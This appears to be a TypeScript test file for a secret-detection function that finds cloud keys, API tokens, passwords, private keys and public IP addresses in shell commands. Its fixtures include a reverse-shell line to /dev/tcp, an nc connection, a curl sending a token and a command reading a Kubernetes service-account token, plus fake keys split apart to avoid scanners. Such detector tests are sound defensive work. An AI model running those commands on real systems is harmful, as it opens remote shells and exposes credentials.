import { describe, expect, test } from 'vitest';
import { type SecretKind, secretsIn } from './secrets.ts';

/** Written in parts, so that nobody who looks for secrets in the sources finds these. */
const joined = (...parts: readonly string[]) => parts.join('');
const tokens = {
  aws: joined('AKIA', 'Z7Q2M4XN5PLK3RTV'),
  awsSecret: joined('wJalrXUtnFEMI/K7MDENG', '+bPxRfiCYEXAMPLEKEY'),
  github: joined('ghp_', '16C7e42F292c6912E7710c838347Ae178B4a'),
  slack: joined('xoxb-', '2416-8829-abcdEFGHijkl'),
  google: joined('AIza', 'SyD3kq9vX2mN8pL5rT7wY1zB4cE6gH0jKlM'),
  jwt: joined('eyJhbGciOiJIUzI1NiJ9.', 'eyJzdWIiOiJtYXJhIn0.c2lnbmF0dXJl'),
  random: joined('q8Zr2LmVx7TyN4', 'pKd9WsBj3HgFc6'),
};

describe('secretsIn finds', () => {
  test.each<[SecretKind, string, string]>([
    ['AWS access key', `export AWS_ACCESS_KEY_ID=${tokens.aws}`, tokens.aws],
    ['AWS secret key', `aws_secret_access_key = ${tokens.awsSecret}`, tokens.awsSecret],
    ['GitHub token', `git clone https://x:${tokens.github}@github.com/a/b`, tokens.github],
    ['Slack token', `curl -d token=${tokens.slack}`, tokens.slack],
    ['Google key', `?key=${tokens.google}`, tokens.google],
    ['JSON Web Token', `curl -H "Authorization: Bearer ${tokens.jwt}"`, tokens.jwt],
    ['credentials', 'Authorization: Basic bWFyYTpodW50ZXIy', 'bWFyYTpodW50ZXIy'],
    ['password', 'psql postgres://mara:hunter2@db/ledger', 'hunter2'],
    ['password', 'mysql --password=hunter2 ledger', 'hunter2'],
    ['password', 'DB_PASSWORD="hunter2"', 'hunter2'],
    ['password', '{"api_key":"abc-123-def"}', 'abc-123-def'],
    ['e-mail address', 'mail mara.k@shop.test', 'mara.k@shop.test'],
    ['public address', 'bash -i >& /dev/tcp/8.8.4.4/443', '8.8.4.4'],
    ['public address', 'nc 2a00:1450:4001:81b::200e 443', '2a00:1450:4001:81b::200e'],
    ['random text', `x ${tokens.random} y`, tokens.random],
    [
      'private key',
      '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----',
      '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----',
    ],
    ['private key', 'echo -----BEGIN PRIVATE KEY----- MIIE', '-----BEGIN PRIVATE KEY----- MIIE'],
  ])('%s in %s', (kind, text, value) => {
    expect(secretsIn(text, null)).toContainEqual({ kind, value });
  });

  test('an argument behind the option for a password', () => {
    expect(secretsIn('hunter2', '--password')).toEqual([{ kind: 'password', value: 'hunter2' }]);
    expect(secretsIn('hunter2', '--token')).toEqual([{ kind: 'password', value: 'hunter2' }]);
    expect(secretsIn('--force', '--password')).toEqual([]);
    expect(secretsIn('hunter2', '-i')).toEqual([]);
  });
});

describe('secretsIn leaves alone', () => {
  test.each([
    'sh -c "test -S /run/php-fpm.sock"',
    '/usr/local/lib/python3.12/site-packages/pip/_internal',
    'a95461edab5d172744e652e70e4f3e475a0a7ea77f90801049507f040206a6b9',
    '6682ebcc-e466-4a6d-b516-812f5ed5e685',
    'storefront-7c9f6d58b4-x2lqk',
    'git clone git@github.com:elastic/ecs',
    'curl http://203.0.113.77:8443/a',
    'ping 10.0.0.1 192.168.1.1 127.0.0.1 ::1 fe80::1',
    'version 1.2.3.4.5',
    '12:30:45',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    '--token-file=/etc/token',
    'NDAyNjUzMTgzNl9fNjY4MmViY2MtZTQ2Ni00YTZkLWI1MTYtODEyZjVlZDVlNjg1X181ODEyMA==',
  ])('%s', (text) => {
    expect(secretsIn(text, null)).toEqual([]);
  });

  test('and takes time in proportion to a long text', () => {
    for (const unit of [
      'a',
      'a@',
      'a.',
      '1.',
      'eyJ',
      '::',
      'a:',
      'http://',
      'password=',
      '-----BEGIN PRIVATE KEY-----',
    ]) {
      expect(secretsIn(unit.repeat(100_000 / unit.length), null).length).toBeLessThan(2000);
    }
  });
});
